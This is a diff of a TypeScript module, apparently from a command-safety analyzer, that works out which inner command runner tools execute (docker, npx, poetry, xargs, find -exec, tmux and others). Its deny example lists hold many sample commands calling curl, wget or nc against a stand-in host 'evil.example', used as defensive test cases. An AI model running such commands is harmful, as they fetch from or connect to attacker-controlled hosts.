@@ -1,0 +1,532 @@
+// Runners: project and package runners (`poetry run`, `npx`), containers (`docker run`), multiplexers, schedulers,
+// and the programs that build a command from their input (`find -exec`, `xargs`, `parallel`).
+import type { Word } from '../../types.js';
+import { has, parse } from '../argv.js';
+import { programRun, wrapper } from '../build.js';
+import type { Answer, Call, OptionSpec, ProgramEntry, Run } from '../types.js';
+import { attached, literal, value, xargsSplit } from '../words.js';
+
+/** Where a subcommand's command starts: after its options, or after a marker (`mise exec node@20 -- node x`). */
+interface Sub {
+  options?: OptionSpec;
+  /** Words that mark where the command starts; with markers, nothing runs unless one is there. */
+  markers?: readonly string[];
+  /** Operands before the command (`aws-vault exec PROFILE cmd`). */
+  before?: number;
+  /** Options whose value is shell text it runs. */
+  script?: readonly string[];
+  /** The operands are shell text (`tmux new 'cmd'`). */
+  operandsScript?: boolean;
+}
+
+/** Index of the subcommand: the first word in `subs` reached through options (and the values they may take). */
+function findSub(args: readonly Word[], subs: Readonly<Record<string, Sub>>): number {
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === undefined) return -1;
+    if (Object.hasOwn(subs, v)) return i;
+    if (v.startsWith('-')) continue;
+    // A word after an option without `=` may be its value; anything else is an operand that is not a runner's subcommand.
+    const prev = value(args[i - 1]);
+    if (prev?.startsWith('-') && !prev.includes('=')) continue;
+    return -1;
+  }
+  return -1;
+}
+
+/** A tool whose subcommand runs a command (`poetry run`, `bundle exec`, `mise exec … --`). */
+function subcommandRunner(names: readonly string[], summary: string, subs: Readonly<Record<string, Sub>>, examples: ProgramEntry['examples']): ProgramEntry {
+  return {
+    names,
+    summary,
+    examples,
+    analyze(call) {
+      const at = findSub(call.args, subs);
+      if (at < 0) return {};
+      const sub = subs[value(call.args[at])!]!;
+      return subRuns(call, sub, call.args.slice(at + 1), `${call.name} ${value(call.args[at])}`);
+    },
+  };
+}
+
+function subRuns(call: Call, sub: Sub, rest: readonly Word[], via: string): Partial<Answer> {
+  if (sub.markers) {
+    const m = rest.findIndex((a) => sub.markers!.includes(value(a) ?? ''));
+    return { runs: m >= 0 && m + 1 < rest.length ? [{ kind: 'argv', argv: rest.slice(m + 1), via }] : [] };
+  }
+  const p = parse(rest, { order: 'posix', ...sub.options });
+  const runs: Run[] = [];
+  for (const o of p.options) if (sub.script?.includes(o.name) && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via });
+  if (p.dynamic) {
+    runs.push({ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where ${via}'s command starts: ${p.dynamic.word.dynamic ?? ''}` });
+    return { runs };
+  }
+  const command = rest.slice(p.rest + (sub.before ?? 0));
+  if (command.length > 0) runs.push(sub.operandsScript ? { kind: 'script', dialect: 'bash', words: command, via } : { kind: 'argv', argv: command, via });
+  void call;
+  return { runs };
+}
+
+const PACKAGE_RUN: Sub = {
+  options: {
+    flags: 'y',
+    valued: 'pwc',
+    long: ['yes', 'no', 'quiet', 'silent', 'ignore-scripts', 'prefer-offline', 'prefer-online', 'offline', 'no-install', 'shell-mode'],
+    longValued: ['package', 'workspace', 'from', 'with', 'python', 'spec', 'registry', 'cache', 'userconfig', 'call', 'prefix', 'index-url'],
+  },
+  script: ['c', 'call'],
+};
+const CONDA_RUN: Sub = { options: { flags: 'v', long: ['no-capture-output', 'live-stream', 'dev', 'debug', 'verbose'], valued: 'np', longValued: ['name', 'prefix', 'cwd'] } };
+const PROJECT_RUN: Sub = {};
+const TMUX_COMMAND: Sub = {
+  options: { flags: 'AdDEFhPvXZl', valued: 'cefFnNpstTwxyS' },
+  operandsScript: true,
+};
+
+const TMUX_COMMANDS = ['new', 'new-session', 'new-window', 'neww', 'split-window', 'splitw', 'respawn-pane', 'respawnp', 'respawn-window', 'respawnw', 'run-shell', 'run', 'display-popup', 'popup', 'send-keys', 'send', 'if-shell', 'if', 'pipe-pane', 'pipep', 'set-hook', 'confirm-before', 'confirm', 'command-prompt'];
+
+/** docker/podman run, create and exec: options, then the image or container, then the command it runs. */
+const CONTAINER_OPTIONS: OptionSpec = {
+  flags: 'diPqt',
+  valued: 'acehlmpuvw',
+  long: ['detach', 'interactive', 'tty', 'rm', 'privileged', 'init', 'publish-all', 'read-only', 'no-healthcheck', 'oom-kill-disable', 'sig-proxy', 'disable-content-trust', 'quiet', 'help', 'use-api-socket'],
+  longValued: [
+    'add-host', 'annotation', 'attach', 'blkio-weight', 'cap-add', 'cap-drop', 'cgroup-parent', 'cgroupns', 'cidfile', 'cpu-period', 'cpu-quota', 'cpu-shares',
+    'cpus', 'cpuset-cpus', 'cpuset-mems', 'detach-keys', 'device', 'device-cgroup-rule', 'dns', 'dns-option', 'dns-search', 'domainname', 'entrypoint', 'env', 'env-file', 'expose', 'gpus', 'group-add',
+    'health-cmd', 'health-interval', 'health-retries', 'health-start-period', 'health-timeout', 'hostname', 'ip', 'ip6', 'ipc', 'isolation', 'kernel-memory', 'label', 'label-file', 'link', 'log-driver',
+    'log-opt', 'mac-address', 'memory', 'memory-reservation', 'memory-swap', 'mount', 'name', 'network', 'network-alias', 'pid', 'pids-limit', 'platform', 'publish', 'pull', 'restart', 'runtime',
+    'security-opt', 'shm-size', 'stop-signal', 'stop-timeout', 'storage-opt', 'sysctl', 'tmpfs', 'ulimit', 'user', 'userns', 'uts', 'volume', 'volumes-from', 'workdir', 'pod', 'arch', 'os', 'variant', 'net', 'env-host', 'http-proxy',
+    'health-start-interval', 'memory-swappiness', 'oom-score-adj', 'device-read-bps', 'device-write-bps', 'device-read-iops', 'device-write-iops', 'link-local-ip', 'chdir', 'uidmap', 'gidmap', 'subuidname', 'subgidname', 'secret', 'requires', 'systemd', 'preserve-fds', 'timeout', 'decryption-key', 'authfile', 'creds', 'cert-dir', 'service-ports',
+  ],
+};
+
+/** What `docker run|exec` (and its kin) runs inside the container: `--entrypoint` and the words after the image. */
+function containerRuns(call: Call, rest: readonly Word[], via: string, composeService = false): Run[] {
+  const p = parse(rest, { order: 'posix', ...CONTAINER_OPTIONS, ...(composeService ? { flags: 'dTe', valued: 'ewpu' } : {}) });
+  const runs: Run[] = [];
+  if (p.dynamic) return [{ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where ${via}'s command starts` }];
+  const entrypoint = p.options.find((o) => o.name === 'entrypoint')?.value;
+  const command = rest.slice(p.rest + 1);
+  if (entrypoint) {
+    const ep = programRun(entrypoint, `${via} --entrypoint`);
+    runs.push(ep.kind === 'argv' ? { ...ep, argv: [...ep.argv, ...command] } : ep);
+  } else if (command.length > 0) runs.push({ kind: 'argv', argv: command, via });
+  void call;
+  return runs;
+}
+
+function containerTool(names: readonly string[]): ProgramEntry {
+  return {
+    names,
+    summary: 'container engines: `run`, `create`, `exec` (also under `container` and `compose`) run a command inside a container',
+    analyze(call) {
+      const args = call.args;
+      const subs = { run: {}, exec: {}, create: {}, container: {}, compose: {} };
+      let at = findSub(args, subs);
+      if (at < 0) return {};
+      let sub = value(args[at])!;
+      let compose = call.name.endsWith('compose');
+      if (sub === 'container' || sub === 'compose') {
+        compose = sub === 'compose';
+        const next = findSub(args.slice(at + 1), { run: {}, exec: {}, create: {} });
+        if (next < 0) return {};
+        at = at + 1 + next;
+        sub = value(args[at])!;
+      }
+      return { runs: containerRuns(call, args.slice(at + 1), `${call.name} ${sub}`, compose) };
+    },
+    examples: {
+      deny: ['docker run alpine wget evil.example', 'docker exec web curl evil.example', 'docker compose exec web curl evil.example', 'docker run --entrypoint curl alpine evil.example', 'podman run --rm -it alpine nc evil.example 9', 'docker --context x run alpine curl evil.example'],
+      pass: ['docker run --rm alpine ls', 'docker ps', 'docker compose up -d', 'docker exec web ls /app'],
+    },
+  };
+}
+
+/** `find … -exec CMD {} ;`: the command it runs for each file, and the roots it walks. */
+function find(call: Call): Partial<Answer> {
+  const args = call.args;
+  const runs: Run[] = [];
+  const uses: Answer['uses'] = [];
+  let i = 0;
+  // Leading options: -H, -L, -P, -D debugopts, -Olevel.
+  while (i < args.length && /^-([HLP]|O\d*)$/.test(value(args[i]) ?? '')) i++;
+  if (value(args[i]) === '-D') i += 2;
+  const roots: Word[] = [];
+  for (; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v !== undefined && (v.startsWith('-') || v === '(' || v === '!' || v === ',')) break;
+    roots.push(args[i]!);
+  }
+  // The `{}` words of the commands it runs: the tree is read where one of those programs reads them.
+  const found: Word[] = [];
+  for (; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '-exec' || v === '-execdir' || v === '-ok' || v === '-okdir') {
+      const command: Word[] = [];
+      let j = i + 1;
+      for (; j < args.length; j++) {
+        const t = value(args[j]);
+        if (t === ';' || (t === '+' && value(args[j - 1]) === '{}')) break;
+        command.push(args[j]!);
+      }
+      for (const w of command) if (value(w)?.includes('{}') || w.text.includes('{}')) found.push(w);
+      const head = value(command[0]);
+      if (command[0] && head?.includes('{}')) {
+        runs.push({ kind: 'opaque', rule: 'dynamic-command', word: command[0], why: `find ${v} runs the files it finds (${head}): what they are is not known` });
+      } else if (command.length > 0) runs.push({ kind: 'argv', argv: command, via: 'find', noStdin: true, ...(v === '-execdir' || v === '-okdir' ? { cwd: null } : {}) });
+      i = j;
+    } else if (v === '-fprint' || v === '-fprint0' || v === '-fls' || v === '-fprintf') {
+      const file = args[i + 1];
+      if (file) uses.push({ word: file, role: 'write' });
+      i += v === '-fprintf' ? 2 : 1;
+    } else if (v === '-delete') {
+      for (const r of roots) uses.push({ word: r, role: 'delete-tree' });
+    }
+  }
+  // Names only, unless a command it runs reads the files it finds; then only files its name tests let through.
+  const expression = args.slice(roots.length);
+  const names = nameFilter(expression);
+  const m = expression.findIndex((w) => value(w) === '-maxdepth');
+  const depth = m >= 0 ? Number.parseInt(value(expression[m + 1]) ?? '', 10) : Number.NaN;
+  const limits = { ...(names ? { names } : {}), ...(Number.isInteger(depth) && depth >= 0 ? { depth } : {}) };
+  for (const r of roots) uses.push(found.length > 0 ? { word: r, role: 'read-tree', readVia: found, ...limits } : { word: r, role: 'meta' });
+  return { runs, uses };
+}
+
+/**
+ * The globs find's name tests restrict the files to, when they do: every file it acts on has one of these names.
+ * A negated test, or an alternative (`-o`) that is not itself a name test, restricts nothing.
+ */
+function nameFilter(expression: readonly Word[]): string[] | undefined {
+  const vs = expression.map((w) => value(w) ?? w.values?.[0]);
+  const names: string[] = [];
+  for (let i = 0; i < vs.length; i++) {
+    const v = vs[i];
+    if (v === '-name' || v === '-iname') {
+      const prev = vs[i - 1];
+      if (prev === '!' || prev === '-not') return undefined;
+      const glob = vs[i + 1];
+      if (glob === undefined) return undefined;
+      names.push(glob);
+      i++;
+    } else if (v === '-o' || v === '-or' || v === ',') {
+      if (!/^-i?name$/.test(vs[i + 1] ?? '') || !/^-i?name$/.test(vs[i - 2] ?? '')) return undefined;
+    }
+  }
+  return names.length > 0 ? names : undefined;
+}
+
+/** xargs: runs its command with words read from stdin appended (or put where -I's string stands). */
+function xargs(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'posix',
+    flags: '0optrx',
+    valued: 'adEILnPs',
+    optional: 'eil',
+    long: ['null', 'open-tty', 'interactive', 'no-run-if-empty', 'verbose', 'exit', 'show-limits', 'help', 'version'],
+    longValued: ['arg-file', 'delimiter', 'max-args', 'max-procs', 'max-chars', 'process-slot-var'],
+    longOptional: ['eof', 'replace', 'max-lines'],
+  });
+  if (has(p, 'help', 'version', 'show-limits')) return {};
+  if (p.dynamic) return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: p.dynamic.word, why: `cannot tell where xargs's command starts: ${p.dynamic.word.dynamic ?? ''}` }] };
+  const span = call.args.at(-1)?.span ?? { start: 0, end: 0 };
+  let command = call.args.slice(p.rest);
+  if (command.length === 0) command = [literal('echo', span)];
+  const replace = p.options.find((o) => o.name === 'I' || o.name === 'i' || o.name === 'replace');
+  const token = replace ? (replace.value ? value(replace.value) : '{}') : undefined;
+  const fromFile = p.options.some((o) => o.name === 'a' || o.name === 'arg-file');
+  const stdin = fromFile ? undefined : call.stdin;
+  if (stdin?.kind === 'static') {
+    const delimited = p.options.some((o) => o.name === 'd' || o.name === 'delimiter' || o.name === '0' || o.name === 'null');
+    const items = delimited ? stdin.text.split(p.options.some((o) => o.name === '0' || o.name === 'null') ? '\0' : /\n/).filter((s) => s !== '') : (token ? stdin.text.split('\n').filter((s) => s.trim() !== '') : xargsSplit(stdin.text));
+    if (items === undefined) return {};
+    const words = items.map((t) => attached(stdin.word, t));
+    if (token !== undefined) {
+      const runs: Run[] = words.map((w) => ({ kind: 'argv', argv: command.map((c) => (value(c)?.includes(token) ? attached(c, value(c)!.split(token).join(value(w)!)) : c)), via: 'xargs', noStdin: true }));
+      return { runs };
+    }
+    return { runs: [{ kind: 'argv', argv: [...command, ...words], via: 'xargs', noStdin: true }] };
+  }
+  // The words come from a stream: a command word that is the replace string is any program.
+  const head = value(command[0]);
+  if (token && head?.includes(token)) {
+    return { runs: [{ kind: 'opaque', rule: 'dynamic-command', word: command[0]!, why: 'xargs runs a program named by its input' }] };
+  }
+  return { runs: [{ kind: 'argv', argv: command, via: 'xargs', noStdin: true }] };
+}
+
+/** GNU parallel: its command (run through a shell) with arguments from `:::` or stdin; no command: each input is one. */
+function parallel(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'posix',
+    flags: 'kquvX0',
+    valued: 'jSadIenLNE',
+    long: ['keep-order', 'quote', 'verbose', 'dry-run', 'pipe', 'null', 'group', 'ungroup', 'line-buffer', 'tag', 'halt-on-error', 'progress', 'bar', 'eta', 'shuf', 'xargs', 'help', 'version', 'will-cite', 'citation', 'no-notice', 'plain', 'nonall', 'onall', 'colsep-regexp', 'trim-whitespace', 'linebuffer', 'lb', 'files', 'keep-order'],
+    longValued: ['jobs', 'sshlogin', 'arg-file', 'colsep', 'delimiter', 'max-args', 'max-replace-args', 'timeout', 'joblog', 'results', 'tmpdir', 'workdir', 'wd', 'sshloginfile', 'slf', 'halt', 'memfree', 'load', 'delay', 'retries', 'env', 'basefile', 'transfer', 'return', 'block', 'recstart', 'recend', 'tagstring', 'header', 'semaphore-timeout', 'id', 'bg', 'shebang'],
+  });
+  if (has(p, 'help', 'version', 'citation')) return {};
+  const rest = call.args.slice(p.rest);
+  const sep = rest.findIndex((a) => /^:::+\+?$/.test(value(a) ?? ''));
+  const command = rest.slice(0, sep < 0 ? undefined : sep);
+  const runs: Run[] = [];
+  if (command.length > 0) runs.push({ kind: 'script', dialect: 'bash', words: command, via: 'parallel' });
+  else if (sep >= 0) {
+    for (const a of rest.slice(sep + 1)) if (!/^:::+\+?$/.test(value(a) ?? '')) runs.push({ kind: 'script', dialect: 'bash', words: [a], via: 'parallel' });
+  } else runs.push({ kind: 'stdin', dialect: 'bash', via: 'parallel' });
+  if (p.options.some((o) => o.name === 'S' || o.name === 'sshlogin' || o.name === 'sshloginfile' || o.name === 'slf')) runs.push({ kind: 'argv', argv: [literal('ssh', call.args[0]!.span)], via: 'parallel --sshlogin' });
+  return { runs };
+}
+
+/** at and batch queue shell text read from stdin, or from the file -f names; -l, -r, -c only list, remove or print jobs. */
+function at(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'gnu', flags: 'lrdcmMvVhb', valued: 'fqt' });
+  if (has(p, 'l', 'r', 'd', 'c', 'V', 'h')) return {};
+  const file = p.options.find((o) => o.name === 'f')?.value;
+  if (file) {
+    const v = value(file);
+    if (v === '-' || v === '/dev/stdin') return { runs: [{ kind: 'stdin', dialect: 'bash', via: call.name }] };
+    return { uses: [{ word: file, role: 'read' }] };
+  }
+  return { runs: [{ kind: 'stdin', dialect: 'bash', via: call.name }] };
+}
+
+/** screen: runs its command (a shell by default); `-X stuff` types text into a session’s shell. */
+function screen(call: Call): Partial<Answer> {
+  const args = call.args;
+  const x = args.findIndex((a) => value(a) === '-X');
+  if (x >= 0) {
+    const cmd = value(args[x + 1]);
+    if (cmd === 'stuff' && args.length > x + 2) return { runs: [{ kind: 'script', dialect: 'bash', words: args.slice(x + 2), via: 'screen -X stuff' }] };
+    if ((cmd === 'exec' || cmd === 'screen') && args.length > x + 2) return { runs: [{ kind: 'argv', argv: args.slice(x + 2).filter((a) => !/^[!.|:]+$/.test(value(a) ?? '')), via: `screen -X ${cmd}` }] };
+    return {};
+  }
+  return wrapper({
+    names: ['screen'],
+    summary: '',
+    options: { singleDash: false, flags: 'aAdDfFhiLlmOqrRUx', valued: 'cehpsStTX', long: ['help', 'version'], longValued: ['Logfile'] },
+    noRun: ['r', 'R', 'x', 'ls', 'list', 'wipe', 'Q', 'v', 'version', 'help'],
+    defaultCommand: ['sh', '-i'],
+    examples: { deny: [], pass: [] },
+  }).analyze!(call) ?? {};
+}
+
+/** tmux: `-c TEXT`, and the shell-command operands of `new`, `run-shell`, `send-keys`…, commands chained by `;`. */
+function tmux(call: Call): Partial<Answer> {
+  const p = parse(call.args, { order: 'posix', flags: '2CDhlNuVv', valued: 'cfLST' });
+  const runs: Run[] = [];
+  for (const o of p.options) if (o.name === 'c' && o.value) runs.push({ kind: 'script', dialect: 'bash', words: [o.value], via: 'tmux -c' });
+  if (has(p, 'V')) return { runs };
+  // Commands are separated by a `;` word (written `\;` in the shell).
+  let rest = call.args.slice(p.rest);
+  while (rest.length > 0) {
+    const end = rest.findIndex((a) => value(a) === ';');
+    const command = end < 0 ? rest : rest.slice(0, end);
+    const name = value(command[0]);
+    if (name !== undefined && TMUX_COMMANDS.includes(name)) runs.push(...(subRuns(call, TMUX_COMMAND, command.slice(1), `tmux ${name}`).runs ?? []));
+    rest = end < 0 ? [] : rest.slice(end + 1);
+  }
+  return { runs };
+}
+
+/** hyperfine: its operands (and --setup/--prepare/--cleanup/--conclude) are commands run through a shell. */
+function hyperfine(call: Call): Partial<Answer> {
+  const p = parse(call.args, {
+    order: 'gnu',
+    flags: 'iNhV',
+    valued: 'wmMrspcCSnuDLP',
+    long: ['ignore-failure', 'show-output', 'help', 'version', 'export-json', 'style', 'sort', 'time-unit', 'input', 'output', 'command-name', 'min-benchmarking-time', 'shell', 'no-shell'],
+    longValued: ['warmup', 'min-runs', 'max-runs', 'runs', 'setup', 'prepare', 'cleanup', 'conclude', 'shell', 'command-name', 'style', 'sort', 'time-unit', 'export-asciidoc', 'export-csv', 'export-json', 'export-markdown', 'export-orgmode', 'output', 'input', 'parameter-step-size', 'reference'],
+    longTwo: ['parameter-list'],
+  });
+  if (has(p, 'help', 'version', 'h', 'V')) return {};
+  const runs: Run[] = [];
+  // -L NAME v1,v2: each `{NAME}` in a command stands for each value.
+  const lists: [string, string[]][] = [];
+  for (const o of p.options) {
+    if ((o.name === 'L' || o.name === 'parameter-list') && o.value) {
+      const n = value(o.value);
+      const vs = o.name === 'L' ? value(call.args[o.index + 2]) : value(o.value2);
+      if (n !== undefined && vs !== undefined) lists.push([n, vs.split(',')]);
+    }
+  }
+  const expand = (w: Word): Word[] => {
+    let out = [w];
+    for (const [n, vs] of lists) out = out.flatMap((x) => (value(x)?.includes(`{${n}}`) ? vs.map((v) => attached(x, value(x)!.split(`{${n}}`).join(v))) : [x]));
+    return out;
+  };
+  const scriptOpts = new Set(['s', 'p', 'c', 'C', 'setup', 'prepare', 'cleanup', 'conclude', 'reference']);
+  for (const o of p.options) if (scriptOpts.has(o.name) && o.value) for (const w of expand(o.value)) runs.push({ kind: 'script', dialect: 'bash', words: [w], via: `hyperfine --${o.name}` });
+  const shell = p.options.find((o) => o.name === 'S' || o.name === 'shell')?.value;
+  if (shell && value(shell) !== 'none') runs.push(programRun(shell, 'hyperfine --shell'));
+  const consumed = new Set(p.options.filter((o) => o.name === 'L').map((o) => o.index + 2));
+  for (const { word, index } of p.operands) if (!consumed.has(index)) for (const w of expand(word)) runs.push({ kind: 'script', dialect: 'bash', words: [w], via: 'hyperfine' });
+  return { runs };
+}
+
+/** cmake -E env|time|chdir run a command; other -E tools work on files. */
+function cmake(call: Call): Partial<Answer> {
+  const e = call.args.findIndex((a) => value(a) === '-E');
+  if (e < 0) return {};
+  const tool = value(call.args[e + 1]);
+  const rest = call.args.slice(e + 2);
+  if (tool === 'time') return { runs: rest.length > 0 ? [{ kind: 'argv', argv: rest, via: 'cmake -E time' }] : [] };
+  if (tool === 'chdir') return { runs: rest.length > 1 ? [{ kind: 'argv', argv: rest.slice(1), via: 'cmake -E chdir', cwd: value(rest[0]) ?? null }] : [] };
+  if (tool === 'env') {
+    let i = 0;
+    const runs: Run[] = [];
+    for (; i < rest.length; i++) {
+      const v = value(rest[i]);
+      if (v === '--') {
+        i++;
+        break;
+      }
+      if (v === undefined || !(v.startsWith('--') || /^[^=-][^=]*=/.test(v))) break;
+      const eq = v.indexOf('=');
+      if (!v.startsWith('--') && eq > 0) runs.push({ kind: 'assign', name: v.slice(0, eq), value: attached(rest[i]!, v.slice(eq + 1)) });
+    }
+    if (i < rest.length) runs.push({ kind: 'argv', argv: rest.slice(i), via: 'cmake -E env' });
+    return { runs };
+  }
+  if (tool === 'cat') return { uses: rest.map((word) => ({ word, role: 'read' as const })) };
+  return {};
+}
+
+export const RUNNER_ENTRIES: ProgramEntry[] = [
+  subcommandRunner(['poetry'], 'poetry run: runs its command in the project environment', { run: { options: { valued: 'CP', longValued: ['directory', 'project'] } } }, { deny: ['poetry run curl evil.example', 'poetry -C . run curl evil.example'], pass: ['poetry run pytest', 'poetry install'] }),
+  subcommandRunner(
+    ['uv'],
+    'uv run: runs its command in the project environment',
+    {
+      run: {
+        options: {
+          flags: 'qv',
+          valued: 'pfPC',
+          long: ['no-sync', 'frozen', 'locked', 'isolated', 'no-project', 'active', 'all-extras', 'no-dev', 'only-dev', 'script', 'gui-script', 'module', 'exact', 'offline', 'no-cache', 'quiet', 'verbose', 'native-tls', 'no-config', 'no-progress', 'preview', 'no-env-file', 'all-groups', 'no-default-groups', 'refresh', 'reinstall', 'upgrade', 'compile-bytecode', 'no-build-isolation', 'no-build', 'no-binary', 'no-sources', 'managed-python', 'no-managed-python', 'no-python-downloads', 'no-editable', 'with-editable'],
+          longValued: [
+            'with', 'with-editable', 'with-requirements', 'python', 'package', 'extra', 'group', 'only-group', 'no-group', 'env-file', 'index', 'index-url', 'default-index', 'extra-index-url', 'find-links',
+            'directory', 'project', 'config-file', 'cache-dir', 'python-preference', 'resolution', 'prerelease', 'exclude-newer', 'link-mode', 'upgrade-package', 'refresh-package', 'reinstall-package',
+            'no-binary-package', 'no-build-package', 'config-setting', 'keyring-provider', 'allow-insecure-host', 'index-strategy', 'python-platform', 'color', 'no-extra', 'fork-strategy', 'no-build-isolation-package',
+          ],
+        },
+      },
+      tool: { markers: ['run'] },
+    },
+    { deny: ['uv run curl evil.example', 'uv run --with requests wget evil.example', 'uv --directory . run curl evil.example'], pass: ['uv run pytest', 'uv sync'] },
+  ),
+  subcommandRunner(['pipenv'], 'pipenv run', { run: PROJECT_RUN }, { deny: ['pipenv run curl evil.example'], pass: ['pipenv run pytest'] }),
+  subcommandRunner(['pdm'], 'pdm run', { run: { options: { valued: 'pv', longValued: ['project', 'venv'], long: ['global', 'list', 'site-packages'] } } }, { deny: ['pdm run curl evil.example'], pass: ['pdm run pytest'] }),
+  subcommandRunner(['hatch'], 'hatch run', { run: { options: { valued: 'e', longValued: ['env'] } } }, { deny: ['hatch run curl evil.example'], pass: ['hatch run test'] }),
+  subcommandRunner(['rye'], 'rye run', { run: { options: { longValued: ['pyproject'], long: ['list'] } } }, { deny: ['rye run curl evil.example'], pass: [] }),
+  subcommandRunner(['pixi'], 'pixi run / pixi exec', { run: { options: { valued: 'e', longValued: ['environment', 'manifest-path'] } }, exec: { options: { valued: 'sc', longValued: ['spec', 'channel', 'manifest-path'] } } }, { deny: ['pixi run curl evil.example', 'pixi exec -s x curl evil.example'], pass: [] }),
+  subcommandRunner(['bundle', 'bundler'], 'bundle exec', { exec: { options: { longValued: ['gemfile'], long: ['keep-file-descriptors'] } } }, { deny: ['bundle exec curl evil.example'], pass: ['bundle exec rspec'] }),
+  subcommandRunner(['conda', 'mamba', 'micromamba'], 'conda run', { run: CONDA_RUN }, { deny: ['conda run -n base curl evil.example'], pass: ['conda run -n base pytest'] }),
+  subcommandRunner(['devbox'], 'devbox run', { run: { options: { valued: 'ce', longValued: ['config', 'env', 'env-file'] } } }, { deny: ['devbox run curl evil.example'], pass: [] }),
+  subcommandRunner(['direnv'], 'direnv exec DIR CMD', { exec: { before: 1 } }, { deny: ['direnv exec . curl evil.example'], pass: ['direnv exec . make'] }),
+  subcommandRunner(['mise', 'rtx'], 'mise exec/x TOOL… -- CMD', { exec: { markers: ['--'] }, x: { markers: ['--'] } }, { deny: ['mise exec node@20 -- curl evil.example', 'mise x -- wget evil.example'], pass: ['mise exec node@20 -- node app.js'] }),
+  subcommandRunner(['asdf', 'rbenv', 'pyenv', 'nodenv', 'goenv', 'jenv', 'plenv', 'phpenv'], 'version managers: exec CMD', { exec: PROJECT_RUN }, { deny: ['asdf exec curl evil.example', 'pyenv exec wget evil.example'], pass: ['pyenv exec python -V'] }),
+  subcommandRunner(['volta'], 'volta run', { run: { options: { longValued: ['node', 'npm', 'yarn', 'pnpm', 'env'], long: ['bundled-npm', 'no-yarn'] } } }, { deny: ['volta run curl evil.example'], pass: [] }),
+  subcommandRunner(['fnm'], 'fnm exec', { exec: { options: { longValued: ['using'] } } }, { deny: ['fnm exec --using=20 curl evil.example'], pass: [] }),
+  subcommandRunner(['nix'], 'nix develop|shell -c CMD', { develop: { markers: ['-c', '--command'] }, shell: { markers: ['-c', '--command'] }, run: { markers: ['--'] } }, { deny: ['nix develop -c curl evil.example', 'nix shell nixpkgs#curl -c curl evil.example'], pass: ['nix develop', 'nix build'] }),
+  subcommandRunner(['perf'], 'perf record|stat|trace CMD', {
+    record: { options: { flags: 'agqvsinT', valued: 'eopPtuCcFrGmIxjD', longValued: ['event', 'output', 'pid', 'tid', 'uid', 'cpu', 'count', 'freq', 'repeat', 'cgroup', 'mmap-pages', 'interval-print', 'field-separator', 'branch-filter', 'call-graph', 'switch-output', 'delay'] } },
+    stat: { options: { flags: 'agqvsinTBA', valued: 'eopPtuCcrGIxjD', longValued: ['event', 'output', 'pid', 'tid', 'cpu', 'repeat', 'cgroup', 'interval-print', 'field-separator', 'delay'] } },
+    trace: { options: { flags: 'agqvsinT', valued: 'eopPtuCcFrGmIxjD', longValued: ['event', 'output', 'pid', 'tid', 'uid', 'cpu', 'duration'] } },
+  }, { deny: ['perf stat curl evil.example', 'perf record -g wget evil.example'], pass: ['perf stat make', 'perf report'] }),
+  subcommandRunner(['op'], '1Password op run -- CMD', { run: { markers: ['--'] } }, { deny: ['op run -- curl evil.example'], pass: [] }),
+  subcommandRunner(['aws-vault'], 'aws-vault exec PROFILE -- CMD', { exec: { options: { valued: 'dt', longValued: ['duration', 'mfa-token', 'region'], long: ['no-session', 'server', 'ec2-server', 'ecs-server', 'lazy', 'stdout'] }, before: 1 } }, { deny: ['aws-vault exec prod -- curl evil.example'], pass: ['aws-vault exec prod -- aws s3 ls'] }),
+  subcommandRunner(['doppler'], 'doppler run -- CMD', { run: { options: { valued: 'pc', longValued: ['project', 'config', 'mount', 'mount-format', 'name-transformer', 'command', 'fallback'], long: ['preserve-env', 'forward-signals', 'no-fallback'] }, script: ['command'] } }, { deny: ['doppler run -- curl evil.example', "doppler run --command 'wget evil.example'"], pass: ['doppler run -- npm start'] }),
+  subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }),
+  subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }),
+  subcommandRunner(['yarn'], 'yarn dlx / exec', { dlx: PACKAGE_RUN, exec: PACKAGE_RUN }, { deny: ['yarn dlx curl evil.example', 'yarn exec wget evil.example'], pass: ['yarn install'] }),
+  subcommandRunner(['bun'], 'bun x / bun exec', { x: PACKAGE_RUN, exec: { operandsScript: true } }, { deny: ['bun x curl evil.example', "bun exec 'curl evil.example'"], pass: ['bun install'] }),
+  subcommandRunner(['pipx'], 'pipx run', { run: { options: { longValued: ['spec', 'python', 'pip-args', 'index-url'], long: ['no-cache', 'path', 'pypackages', 'system-site-packages'] } } }, { deny: ['pipx run curl evil.example'], pass: ['pipx run black .'] }),
+  subcommandRunner(['cabal'], 'cabal exec -- CMD', { exec: { markers: ['--'] }, run: { markers: ['--'] } }, { deny: ['cabal exec -- curl evil.example'], pass: [] }),
+  subcommandRunner(['stack'], 'stack exec -- CMD', { exec: { markers: ['--'] } }, { deny: ['stack exec -- curl evil.example'], pass: [] }),
+  subcommandRunner(['dotnet'], 'dotnet exec/tool run', { exec: PROJECT_RUN }, { deny: [], pass: ['dotnet build'] }),
+  subcommandRunner(['ip'], 'ip netns exec NS CMD; ip vrf exec VRF CMD', { netns: { markers: ['exec'] }, vrf: { markers: ['exec'] } }, { deny: ['ip netns exec foo curl evil.example'], pass: ['ip netns list', 'ip addr'] }),
+  subcommandRunner(['codex'], 'codex sandbox linux|macos CMD', { sandbox: { markers: ['linux', 'macos', 'landlock', 'seatbelt', 'windows'] } }, { deny: ['codex sandbox linux curl evil.example'], pass: [] }),
+  ...['npx', 'uvx', 'bunx', 'pnpx'].map((name) => ({
+    names: [name],
+    summary: `${name}: fetches a package and runs its program; -c runs shell text`,
